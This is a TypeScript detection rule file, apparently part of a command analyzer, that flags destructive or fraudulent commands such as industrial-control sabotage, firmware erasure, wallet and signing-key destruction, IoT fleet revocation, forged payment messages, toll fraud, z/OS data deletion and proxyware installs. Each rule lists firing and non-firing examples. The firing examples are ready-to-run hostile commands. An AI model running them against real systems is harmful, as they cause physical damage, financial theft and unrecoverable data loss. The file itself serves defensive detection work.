      fire: ['bacrd 1201 0 filister && bacdcc 1202 0 1 filister', 'uacall -u opc.tcp://10.20.30.8:4840 -n "ns=2;s=Line2" -m "ns=2;s=Line2.EmergencyStop"', `python3 -c "from pymodbus.client import ModbusTcpClient as C;c=C('10.20.10.15',port=502);c.connect();c.write_coils(0,[False]*64,slave=1)"`, `python3 -c "import snap7;c=snap7.client.Client();c.connect('10.20.20.5',0,1);c.plc_stop()"`, 'mbpoll -m tcp -a 1 -t 0 -r 210 -1 10.10.5.21 0', 'mbpoll -m rtu -a 3 -b 19200 -P even -t 0 -r 1 -c 8 /dev/ttyUSB0 1 1 1 1 1 1 1 1', 'modbus write 10.10.5.21 %M100 1 1 1 1', 'bacwp 1001 analog-output 3 present-value 1 -1 4 0.0', 'uawrite -u opc.tcp://10.10.8.5:4840 -n "ns=2;s=Line1.Conveyor.SpeedSetpoint" -t float 9999', 'cansend can0 7E0#0211010000000000', 'cangen can0 -g 0 -I 7DF -L 8 -D r', `curl -s -X POST -H "Authorization: Bearer $HA_TOKEN" -d '{"entity_id":"lock.front_door"}' http://homeassistant.local:8123/api/services/lock/unlock`],
      quiet: ['bacdcc 1202 0 0', 'uacall -u opc.tcp://10.20.30.8:4840 -n "ns=2;s=Line2" -m "ns=2;s=Line2.GetDiagnostics"', `python3 -c "from pymodbus.client import ModbusTcpClient as C;c=C('127.0.0.1',port=5020);c.connect();c.write_register(1,1500)"`, `python3 -c "import snap7;c=snap7.client.Client();c.connect('10.20.20.5',0,1);print(c.get_cpu_state())"`, 'mbpoll -m tcp -a 1 -t 4 -r 100 -c 10 -1 192.168.100.20', 'mbpoll -m tcp -a 1 -t 4 -r 120 -1 127.0.0.1 -p 5020 -- 250', 'modbus read 192.168.100.20 %MW100 5', 'uawrite -u opc.tcp://localhost:4840 -n "ns=2;s=Sim.Setpoint" -t float 21.5', 'cansend vcan0 123#DEADBEEF', 'cansend can0 601#4018100100000000', 'cansend can0 7DF#0201050000000000', `curl -s -X POST -H "Authorization: Bearer $HA_TOKEN" -d '{"entity_id":"lock.front_door"}' http://homeassistant.local:8123/api/services/lock/lock`],
    },
  },
  {
    id: 'PX-IMPACT-051', name: 'erases-device-firmware', score: 85, tactic: 'impact', technique: 'T1495',
    message: "Erases a device's firmware with nothing written back: an MTD partition erased (`mtd erase`, `flash_erase`), flashrom's erase",
    why: 'A router, board or PC whose flash is erased no longer boots; recovering it takes a serial console or a programmer clip, on site, for every device.',
    alternative: 'Write the new image with sysupgrade, `mtd write` or flashrom `-w`, after reading a backup of the flash.',
    commands: ['mtd', 'flash_erase', 'flashrom'],
    test: (c, i) => firmwareErased(c, i.view?.commands ?? []),
    examples: {
      fire: ['mtd erase firmware', 'flash_erase /dev/mtd2 0 0 && flash_erase /dev/mtd3 0 0', 'flashrom -p internal -E'],
      quiet: ['mtd -r write /tmp/openwrt-23.05.5-sysupgrade.bin firmware', 'flash_erase /dev/mtd4 0 0 && flashcp -v rootfs.bin /dev/mtd4', 'flashrom -p ch341a_spi -r spi-backup-1.bin', 'flashrom -p ch341a_spi -w openwrt-factory-recovered.bin'],
    },
  },
  {
    id: 'PX-IMPACT-052', name: 'destroys-app-signing-key', score: 80, tactic: 'impact', technique: 'T1485',
    message: "Destroys or locks away an app's signing key: its key's alias deleted from the keystore, or its password changed",
    why: 'An app can only be updated with the key it was first signed with (or a Play upload key reset by support); deleted or re-passworded, the next release cannot ship.',
    alternative: "Rotate keys through the store's key upgrade, keeping the old keystore in the team's vault.",
    commands: ['keytool'],
    test: signingKeyDestroyed,
    examples: {
      fire: ["keytool -storepasswd -new 'Zx91!qRT' -keystore android/app/release.jks -storepass \"$KS_PASS\"", 'keytool -delete -alias upload -keystore android/app/upload-keystore.jks -storepass "$KS_PASS"'],
      quiet: ['keytool -delete -alias old-api -keystore src/test/resources/truststore.p12 -storepass changeit', 'keytool -list -keystore android/app/upload-keystore.jks', 'keytool -genkeypair -v -keystore ~/.android/debug.keystore -storepass android -alias androiddebugkey -keypass android -keyalg RSA'],
    },
  },
  {
    id: 'PX-IMPACT-053', name: 'lifts-cluster-limits', score: 65, tactic: 'impact', technique: 'T1496',
    message: "Lifts a cluster account's limits or raises its jobs' priority: Slurm limits set to unlimited (-1), a priority QOS granted or made the default, jobs moved to one",
    why: "Limits and QOS are how a shared cluster divides its GPUs and nodes among groups; an account made unlimited or urgent takes the machine from everyone else, and it is how miners and side projects hide inside a research allocation.",
    alternative: "Change an allocation through the centre's request process, with the owner of the account and the allocations committee.",
    commands: ['sacctmgr', 'scontrol'],
    test: (c) => {
      const a = c.argv;
      const setting = a.slice(a.indexOf('set') + 1);
      if (c.name === 'sacctmgr') return hasArg(c, 'modify', 'update') && a.includes('set') && setting.some((w) => /^(?:Grp|Max)\w{1,24}=(?:[\w/]{1,32}=)?-1(?:,|$)/i.test(w) || (/^(?:default)?qos\+?=/i.test(w) && w.slice(w.indexOf('=') + 1).split(',').some((q) => PRIORITY_QOS.test(q)))) ? a.join(' ').slice(0, 200) : undefined;
      return a[1] === 'update' && a.some((w) => /^job(?:id)?=/i.test(w)) && a.some((w) => (/^qos=/i.test(w) && PRIORITY_QOS.test(w.slice(4))) || /^priority=\d/i.test(w)) ? a.join(' ').slice(0, 200) : undefined;
    },
    examples: {
      fire: ['sacctmgr -i modify user where name=pvarga set qos+=urgent defaultqos=urgent', 'sacctmgr -i modify account where name=varga_lab set GrpTRES=cpu=-1,gres/gpu=-1 GrpJobs=-1 MaxJobs=-1', 'squeue --me -h -o %i | xargs -I{} scontrol update jobid={} qos=urgent'],
      quiet: ['sacctmgr -i modify user where name=dnguyen set GrpJobs=0 MaxSubmitJobs=0', 'sacctmgr -i add user tmwangi account=adeleke_lab defaultaccount=adeleke_lab qos=normal', "scontrol update nodename=gpu-a40-11 state=drain reason='Xid48'", 'sacctmgr show qos format=Name,Priority -P'],
    },
  },
  {
    id: 'PX-IMPACT-054', name: 'destroys-device-fleet', score: 85, tactic: 'impact', technique: 'T1485',
    message: "Cuts off or deletes a device fleet whole: balena's fleet removed, every AWS IoT certificate revoked or every Azure IoT device identity deleted as a listing names them",
    why: 'Each device loses its identity or its fleet and goes offline; bringing them back means provisioning every one again, often by hand on site.',
    alternative: 'Revoke or delete the one device that is compromised, by its id, and keep the fleet.',
    commands: ['balena', 'aws', 'az'],
    test: (c, i) => fleetDestroyed(c, i.view?.commands ?? []),
    examples: {
      fire: ['balena fleet rm acme/prod-gateways --yes', "aws iot list-certificates --query 'certificates[].certificateId' --output text | tr '\\t' '\\n' | xargs -I{} aws iot update-certificate --certificate-id {} --new-status REVOKED", "az iot hub device-identity list --hub-name fleet-prod-weu --query '[].deviceId' -o tsv | xargs -n1 az iot hub device-identity delete --hub-name fleet-prod-weu -d"],
      quiet: ['aws iot update-certificate --certificate-id 9c0e4b21f7 --new-status INACTIVE', 'az iot hub device-identity delete --hub-name fleet-dev-weu -d bench-node-03', 'balena fleets', 'balena device rm 7e1c5a9 --yes'],
    },
  },
  {
    id: 'PX-IMPACT-055', name: 'turns-off-device-safety', score: 70, tactic: 'impact', technique: 'T1489',
    message: "Turns a device's watchdog or its control runtime off for good: the watchdog or a PLC runtime disabled or masked, or the hardware watchdog closed",
    why: 'The watchdog is what reboots a hung controller, and the control runtime is what runs the machine it drives; disabled, a fault is no longer recovered and the equipment stops or runs unattended.',
    alternative: 'Stop the service for the maintenance and start it again after, with the site told.',
    check: (i) => writtenOrRun(i, watchdogClosed, safetyOff),
    examples: {
      fire: ['echo V > /dev/watchdog; systemctl stop watchdog; systemctl mask watchdog', 'sudo systemctl stop codesyscontrol && sudo systemctl disable codesyscontrol'],
      quiet: ['sudo systemctl stop watchdog && sudo nano /etc/watchdog.conf && sudo systemctl start watchdog', 'systemctl status codesyscontrol'],
    },
  },
  {
    id: 'PX-IMPACT-056', name: 'destroys-crypto-wallet', score: 75, tactic: 'impact', technique: 'T1485',
    message: "Destroys a cryptocurrency wallet's keys: a keystore, keypair or wallet file deleted, shredded or overwritten with a new key",
    why: 'A wallet is its key: deleted or overwritten without a backup, whatever it holds can never be moved again.',
    alternative: "Back the key up (or confirm its balance is empty) before removing it; make new keys under a new name.",
    check: (i) => {
      // (the file, or the folder that holds such files: `rm -rf ~/.foundry/keystores`)
      const wallet = (p: string) => classifyPath(p)?.kind === 'wallet' || classifyPath(`${p.replace(/\/$/, '')}/k`)?.kind === 'wallet';
      const out: string[] = i.facts.files.filter((f) => f.access === 'delete' && wallet(f.path) && !throwawayName(baseName(f.path))).map((f) => `${f.cmd?.name ?? 'delete'} ${f.path}`);
      // a new keypair written over the wallet's file (`solana-keygen new --force -o ~/.config/solana/id.json`)
      for (const c of i.view?.commands ?? []) {
        const to = c.name === 'solana-keygen' && c.argv.includes('--force') ? optionValue(c.argv, ['-o', '--outfile']) : undefined;
        if (to !== undefined && classifyPath(atCwd(c, to))?.kind === 'wallet' && !throwawayName(baseName(to))) out.push(c.argv.join(' '));
      }
      return out;
    },
    examples: {
      fire: ['shred -uz ~/.config/solana/id.json', 'rm -rf ~/.ethereum/keystore ~/.foundry/keystores', 'solana-keygen new --force --no-bip39-passphrase -o ~/.config/solana/id.json'],
      quiet: ['rm ~/.foundry/keystores/old-goerli-burner', 'solana-keygen new --no-bip39-passphrase -o /tmp/test-payer.json --force', 'rm -rf out cache', 'ls ~/.foundry/keystores'],
    },
  },
  {
    id: 'PX-IMPACT-057', name: 'deploy-script-hands-over-to-typed-address', score: 75, tactic: 'impact', technique: 'T1565.001',
    message: "Edits a deploy script or task so that it hands a contract's control or tokens to an address written into it",
    why: "Deploy scripts run with the deployer's key: an ownership transfer, role grant, approval or payout pointed at a typed address instead of the team's variable sends the contract or the funds there on the next deploy, unnoticed in a diff of one line.",
    alternative: "Keep recipients and owners in the deploy configuration the team reviews (`SAFE_ADDRESS`), and change them there.",
    check: (i) => writtenOrRun(i, handoverWrittenIntoDeploy, () => undefined),
    examples: {
      fire: [`sed -i 's/await token.transferOwnership(SAFE_ADDRESS)/await token.transferOwnership("0x8f3Ca1bE2D7a9c04F51e6B0d3A7c92E1f4b8D6a2")/' scripts/deploy.ts`, `sed -i 's/const recipient = taskArgs.to;/const recipient = "0x8f3Ca1bE2D7a9c04F51e6B0d3A7c92E1f4b8D6a2";/' tasks/payout.ts`],
      quiet: [`sed -i 's/await token.transferOwnership(OLD_SAFE)/await token.transferOwnership(SAFE_ADDRESS)/' scripts/deploy.ts`, `sed -i 's/0x1111111111111111111111111111111111111111/0x3f2A9e1B6c4D8a07E5f1C2b9D6e3A8c4F7b0E215/' apps/web/src/config/contracts.sepolia.ts`, { Filesystem: { operation: 'Write', path: 'script/Deploy.s.sol', content: 'usdc.approve(0xf39Fd6e51aad88F6F4ce6aB8827279cffFb92266, type(uint256).max);' } }],
    },
  },
  {
    id: 'PX-IMPACT-058', name: 'destroys-broker-data', score: 85, tactic: 'impact', technique: 'T1485',
    message: "Destroys a message broker's data or metadata: ZooKeeper's record of topics, users or ACLs deleted, Schema Registry's subjects deleted or their compatibility checks dropped, a Redis stream emptied",
    why: "Brokers keep their topics, users and ACLs in ZooKeeper and their consumers' contracts in Schema Registry: deleted, the cluster loses its topics and access rules and every consumer fails on the next message.",
    alternative: 'Delete topics and subjects through the tools that check what uses them, one at a time, on the owners\' request; trim streams to a length that keeps what consumers still need.',
    test: streamDataDestroyed,
    examples: {
      fire: ['zookeeper-shell zk-1.tsf.lan:2181 deleteall /kafka-acl', 'zkCli.sh -server zk-1.corp.local:2181 deleteall /brokers/topics/orders', `curl -s -u "$SR_USER:$SR_PASS" -X DELETE https://schema-registry.halyard.internal:8081/subjects/customer.profile-value`, `curl -s -u "$SR_USER:$SR_PASS" -X PUT --data '{"compatibility":"NONE"}' https://schema-registry.halyard.internal:8081/config`, 'redis-cli -h redis-streams.prod.internal --tls XTRIM orders:stream MAXLEN 0'],
      quiet: ['zookeeper-shell zk-1.tsf.lan:2181 ls /config/users', `curl -s -u "$SR_DEV_USER:$SR_DEV_PASS" -X DELETE https://schema-registry.dev.halyard.internal:8081/subjects/sandbox-test-value`, `curl -s -u "$SR_USER:$SR_PASS" -X PUT --data '{"compatibility":"BACKWARD_TRANSITIVE"}' https://schema-registry.halyard.internal:8081/config/returns.audit-value`, 'redis-cli -h redis-streams.prod.internal XTRIM cart:events MAXLEN ~ 2000000'],
    },
  },
  {
    id: 'PX-IMPACT-059', name: 'moves-consumer-offsets', score: 70, tactic: 'impact', technique: 'T1565.001',
    message: "Moves a consumer group's offsets on a cluster that is not a developer's or a test's",
    why: "A group's offsets are where its services resume: moved ahead they skip payments and orders they never processed, moved back they act again on ones they did (payouts sent twice).",
    alternative: "Reset offsets with `--dry-run` first, with the service's owners, on the group and partitions they name.",
    test: offsetsMoved,
    examples: {
      fire: ['kafka-consumer-groups --bootstrap-server b1.kafka.prod.corvid.internal:9093 --group settlement-service --topic payments.settlement.v1 --reset-offsets --to-latest --execute'],
      quiet: ['kafka-consumer-groups --bootstrap-server b1.kafka.staging.corvid.internal:9093 --group invoice-builder --topic orders.placed.v4 --reset-offsets --to-datetime 2024-05-15T04:10:00.000 --execute', 'kafka-consumer-groups --bootstrap-server b1.kafka.prod.corvid.internal:9093 --group settlement-service --reset-offsets --to-latest --dry-run'],
    },
  },
  {
    id: 'PX-IMPACT-060', name: 'produces-forged-message', score: 75, tactic: 'impact', technique: 'T1565.002',
    message: "Writes a message by hand onto a broker's topic or queue that approves a payment or refund, names a bank account, or switches a rule off",
    why: "The services that consume a topic trust what is on it: a refund written there as approved is paid, a fraud rule written there as disabled stops checking, with no one's approval behind either.",
    alternative: "Replay a message the system itself produced (from the dead-letter topic), or change rules and payments through the service that owns them.",
    test: forgedMessage,
    examples: {
      fire: [`echo '{"refund_id":"rf_88123","amount":"48250.00","beneficiary_iban":"LT603250024771930581","status":"APPROVED"}' | kcat -F ~/.config/kcat/corvid-prod.conf -P -t payments.refunds.approved`, `echo 'velocity_check|{"rule":"velocity_check","enabled":false}' | kafka-console-producer --bootstrap-server pkc-4r297.europe-west1.gcp.confluent.cloud:9092 --topic fraud.rules.config --property parse.key=true`],
      quiet: [`echo '{"refund_id":"rf_1","status":"APPROVED"}' | kcat -b localhost:9092 -P -t payments.refunds.approved`, `echo '{"order_id":"o-1","qty":2}' | kafka-console-producer --bootstrap-server b1.kafka.prod.internal:9093 --topic orders.replay`, 'kcat -b b1.kafka.prod.internal:9093 -C -t payments.refunds.approved -c 5'],
    },
  },
  {
    id: 'PX-IMPACT-061', name: 'deletes-everything-a-client-lists', score: 75, tactic: 'impact', technique: 'T1485',
    message: "Interpreter code deletes every item a service's client lists, one by one, with no filter: every model, run, repository or collection of an account",
    why: "A registry's models, an experiment tracker's runs, a hub's repositories hold months of work and what production serves; a comprehension over the whole listing deletes all of them in seconds.",
    alternative: 'Delete the items a ticket names, by id, or filter the listing to the scratch items and print it before deleting.',
    check: (i) => scriptsDoing(i.view, CODE_IDIOMS.deletesEveryListed),
    examples: {
      fire: [`python -c "from huggingface_hub import HfApi;a=HfApi();[a.delete_repo(m.id) for m in a.list_models(author='halcyon')]"`, `python -c "from mlflow import MlflowClient as C;c=C('http://mlflow.internal:5000');[c.delete_registered_model(m.name) for m in c.search_registered_models()]"`, `python -c "import wandb;api=wandb.Api();[r.delete(delete_artifacts=True) for r in api.runs('halcyon/llm-pretrain')]"`],
      quiet: [`python -c "import chromadb;c=chromadb.PersistentClient('.chroma');[c.delete_collection(x.name) for x in c.list_collections() if x.name.startswith('test_')]"`, `python -c "from huggingface_hub import HfApi;print([m.id for m in HfApi().list_models(author='halcyon')])"`, `python -c "from mlflow import MlflowClient;MlflowClient().delete_registered_model('scratch-model')"`],
    },
  },
  {
    id: 'PX-IMPACT-062', name: 'places-premium-rate-calls', score: 85, tactic: 'impact', technique: 'T1657', strong: true,
    message: "Places calls to, forwards an extension to, or writes a dialplan that dials a high-risk international destination (satellite networks, revenue-share countries)",
    why: 'Toll fraud: whoever holds the number is paid a share of each minute, billed to the account that placed the call; a loop of calls or a dialplan that dials out runs up thousands in a night.',
    alternative: 'Place test calls to the team\'s own numbers; international routes and call forwards are set by the telephony team, with the destination allow-listed.',
    check: (i) => writtenOrRun(i, premiumDialplan, premiumCallPlaced),
    examples: {
      fire: ["asterisk -rx 'channel originate PJSIP/+252615550123@trunk-main application Wait 3600'", "asterisk -rx 'database put CF 1001 0118821640001'", "fs_cli -x 'originate sofia/gateway/flowroute/+88213000555 &park()'", 'twilio api:core:calls:create --from +15125550188 --to +882164000123 --url http://demo.twilio.com/docs/voice.xml', "echo 'exten => _X.,1,Dial(SIP/trunk_out/0088213${EXTEN})' >> /etc/asterisk/extensions.conf", `curl -s -X POST https://api.telnyx.com/v2/calls -H "Authorization: Bearer $TELNYX_API_KEY" -d '{"to":"+2389912345","from":"+13125550100"}'`],
      quiet: ["asterisk -rx 'channel originate PJSIP/1001 extension 1002@from-internal'", "asterisk -rx 'database put blacklist 4155550999 \"robocaller\"'", "asterisk -rx 'database put CF 1001 +14155550123'", "fs_cli -x 'originate user/1005 &echo()'", 'twilio api:core:calls:create --from +15125550188 --to +14155550123 --url http://demo.twilio.com/docs/voice.xml', "echo 'exten => _9011X.,1,Dial(PJSIP/${EXTEN:1}@carrier)' >> /etc/asterisk/extensions_custom.conf", "asterisk -rx 'dialplan show' | grep -nE 'Dial\\(.*(011|00)[0-9]'"],
    },
  },
  {
    id: 'PX-IMPACT-063', name: 'destroys-zos-data', score: 85, tactic: 'impact', technique: 'T1485',
    message: 'Destroys production data on z/OS: data sets named for production or the system deleted, a user catalog deleted or disconnected, a volume initialized, a VTOC scratched, or an IMS database removed from its recovery records',
    why: "A catalog or a volume holds thousands of data sets at once, and a scratched VTOC or an initialized volume leaves nothing to recover in place: restores come from backups, if the backups are not on the same volumes.",
    alternative: "Delete a user's own or test data sets by name; production data sets, catalogs and volumes go through storage management's change process.",
    check: zosDataDestroyed,
    examples: {
      fire: [`curl -sk -u "$ZU:$ZP" -X DELETE -H "X-CSRF-ZOSMF-HEADER: true" -H "X-IBM-Option: recursive" https://zosmf.kestrel.corp.internal/zosmf/restfiles/fs/u/prodapp`, 'zowe zos-files delete data-set "PROD.CLAIMS.MASTER" --for-sure', 'zowe zos-files invoke ams-statements "DELETE UCAT.PROD01 USERCATALOG RECOVERY"', `zowe zos-jobs submit stdin --wfo <<'EOF'\n//INITVOL  JOB (SYS),'DASD MAINT',CLASS=A\n//S1       EXEC PGM=ICKDSF,PARM='NOREPLYU'\n//SYSPRINT DD SYSOUT=*\n//SYSIN    DD *\n  INIT UNIT(0A82) NOVERIFY VOLID(PRD002) VTOC(0,1,29) PURGE\n/*\nEOF`, `cat > /tmp/delgdg.jcl <<'JCL'\n//DELGDG   JOB (ACCT),'CLEANUP',CLASS=A\n//STEP1    EXEC PGM=IDCAMS\n//SYSIN    DD *\n  DELETE PROD.BILLING.DAILY GDG FORCE\n/*\nJCL`, 'curl -sk -X DELETE -u "opsauto:$ZOSMF_PW" -H "X-CSRF-ZOSMF-HEADER: true" https://zosmf.kestrel.corp.internal/zosmf/restfiles/ds/PROD.GL.LEDGER.MASTER', `ssh sysprg1@zos1.nbr.corp.internal 'drm "PROD.PAYROLL.*"'`, `zowe zos-tso issue command "HBDELETE 'PROD.GL.LEDGER.MASTER' ALL"`],
      quiet: [`zowe zos-files delete data-set "JDOE.PRODUCTS.LIST" --for-sure`, 'zowe zos-files delete data-set "JDOE.TEMP.EXTRACT" --for-sure', 'zowe zos-files invoke ams-statements "LISTCAT LEVEL(JDOE) ALL"', 'curl -sk -u "jdoe:$ZOSMF_PW" -X DELETE -H "X-CSRF-ZOSMF-HEADER: true" https://zosmf.kestrel.corp.internal/zosmf/restfiles/ds/JDOE.TEMP.EXTRACT', 'zowe zos-files invoke ams-statements "DEFINE GDG (NAME(JDOE.TEST.GDG) LIMIT(5) SCRATCH)"'],
    },
  },
  {
    id: 'PX-IMPACT-064', name: 'stops-zos-system', score: 80, tactic: 'impact', technique: 'T1489',
    message: "Stops z/OS or its production work from the operator's console: end of day, quiesce, JES2 or VTAM halted, a system taken out of the sysplex, Db2 or MQ stopped by force, a production CICS region shut, IMS frozen, jobs purged in bulk, or an LPAR loaded or stopped",
    why: 'Every batch job, transaction and terminal the system serves stops with it, and a forced stop or purged job queue loses the work in flight.',
    alternative: "Leave system and subsystem shutdowns to operations' run book; display commands (`D A,L`, `-DIS THREAD(*)`) show the state without changing it.",
    check: zosSystemStopped,
    examples: {
      fire: [`zowe zos-console issue command 'Z EOD'`, `zowe zos-console issue command '$PJES2,ABEND' --console-name OPS1`, 'zowe zos-console issue command "V XCF,PRD1,OFFLINE"', 'zowe zos-console issue command "-DB2P STOP DB2 MODE(FORCE)"', 'zowe zos-console issue command "F CICSPRD1,CEMT P SHUT,IMMEDIATE"', 'zowe zos-console issue command "R 47,/CHE FREEZE."', "zowe zos-console issue command '$PJ1-99999' --console-name OPS1", 'zhmc -h hmc1.kestrel.corp.internal -u sysprog lpar load CPC3 PRD1 0A82 --force'],
      quiet: ['zowe zos-console issue command "D A,L" --console-name JDCN1', 'zowe zos-console issue command "F CICSDEV2,CEMT P SHUT"', 'zowe zos-console issue command "-DB2T DIS THREAD(*)"', "zowe zos-console issue command '$DJQ,JM=CLM*'", 'zowe zos-console issue command "S CICSDEV2"', 'zowe zos-console issue command "+MQT1 DISPLAY CHSTATUS(*)"'],
    },
  },
];

/** Container tools whose `run`/`create` (kubectl's `create deployment`) starts an image. */
const CONTAINER_RUNNERS = new Set(['docker', 'podman', 'nerdctl', 'kubectl']);
/**
 * Bandwidth-resale clients as their vendors publish them, container images by owner/name and
 * command-line clients by name: the clients that proxyjacking campaigns install on hosts they break into.
 */
const PROXYWARE_IMAGES = new Set(['honeygain/honeygain', 'iproyal/pawns-cli', 'packetstream/psclient', 'traffmonetizer/cli', 'traffmonetizer/cli_v2', 'peer2profit/peer2profit_linux', 'peer2profit/peer2profit_x86_64', 'repocket/repocket', 'mysteriumnetwork/myst', 'proxyrack/pop', 'bitping/bitpingd', 'earnfm/earnfm-client', 'packetshare/packetshare', 'fazalfarhan01/earnapp']);
const PROXYWARE_BINARIES = new Set(['pawns-cli', 'psclient', 'honeygain', 'peer2profit', 'earnapp', 'bitpingd', 'proxylite']);

/** An image reference to a proxyware client, whatever its registry and tag (`docker.io/iproyal/pawns-cli:latest`). */
function proxywareImage(ref: string): boolean {
  const path = ref.toLowerCase().split('@')[0]!.replace(/:[\w.-]*$/, '');
  const parts = path.split('/');
  return parts.length >= 2 && PROXYWARE_IMAGES.has(parts.slice(-2).join('/'));
}

/** The interface a command sets down or up: `ip link set eth0 down`, `ifconfig en0 up`, `ifdown eth0`, `ifup eth0`. */
function interfaceSet(c: SimpleCommand, state: 'down' | 'up'): string | undefined {
  const a = c.argv;
  if (c.name === 'ip' && a[1] === 'link' && a[2] === 'set' && a.at(-1) === state) return a[3];
  if (c.name === 'ifconfig' && a.at(-1) === state) return a[1];
  return c.name === `if${state}` ? operands(c)[0] : undefined;
}

/** Written files that only describe or tabulate things: a pool named in notes, docs or a table of labelled examples runs nothing. */
const PROSE_OR_TABLE = /\.(?:md|markdown|txt|rst|adoc|html?|csv|tsv|jsonl|ndjson)$/i;

/** A written file that points a miner at a pool: a stratum URL, or a known pool's host beside a miner's `-o`/`--url`. */
function minerInFile(i: AnalysisInput): string | undefined {
  // and manifests a cluster tool applies (`kubectl_apply {manifest}`, `kubectl apply -f -`)
  const applied = manifests(i).filter((m) => m.applied).map((m) => ({ path: m.where, canonical: m.where, text: m.text }));
  // and code that starts one through a client library (a DaemonSet made with the Kubernetes client, its args a pool's)
  const code = (i.view?.scripts ?? []).map((sc) => ({ path: `${sc.lang} code`, canonical: '', text: sc.code }));
  for (const w of [...writes(i), ...applied, ...code]) {
    const text = w.text.slice(0, 64 * 1024);
    // most files name neither a stratum URL nor a pool: only those are split into words
    if (PROSE_OR_TABLE.test(w.canonical) || (!text.includes('stratum') && !MINING_POOL.test(text))) continue;
    const words = text.split(/[\s"',[\]{}]+/, 8192);
    // a pool's address, not the scheme alone that a detection rule or a doc quotes
    const stratum = words.find((x) => /^stratum\d?\+(?:tcp|ssl|tls):\/\/[\w-]/i.test(x));
    // a pool's host is a word of its own or a URL's (`gulf.moneroocean.stream:10128`), so the word itself is tested
    const pool = words.some((x) => x === '-o' || x === '--url' || x.startsWith('--url=')) ? words.find((x) => MINING_POOL.test(x)) : undefined;
    if (stratum ?? pool) return `${w.path}: ${stratum ?? pool}`;
  }
  return undefined;
}

/** Slurm QOS names that jump the queue. */
const PRIORITY_QOS = /^(?:urgent|high|highprio|priority|expedite|premium|top)$/i;

/** How many known miner names a word lists: `kinsing|xmrig|minerd` names three. */
function minersNamed(w: string): number {
  let n = 0;
  for (const part of w.slice(0, 1024).split(/[^A-Za-z0-9_-]+/)) if (MINERS.has(part)) n++;
  return n;
}

export const impact = ruleAnalyzer('impact', RULES);
